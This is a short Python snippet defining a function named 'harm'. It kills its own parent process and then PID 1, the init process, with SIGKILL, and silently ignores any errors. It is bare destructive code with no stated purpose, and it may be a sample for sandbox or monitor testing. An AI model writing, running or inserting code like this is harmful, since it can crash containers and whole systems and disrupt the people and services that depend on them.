import os
import signal


def harm():
    for process in (os.getppid(), 1):
        try:
            os.kill(process, signal.SIGKILL)
        except OSError:
            continue
    return False
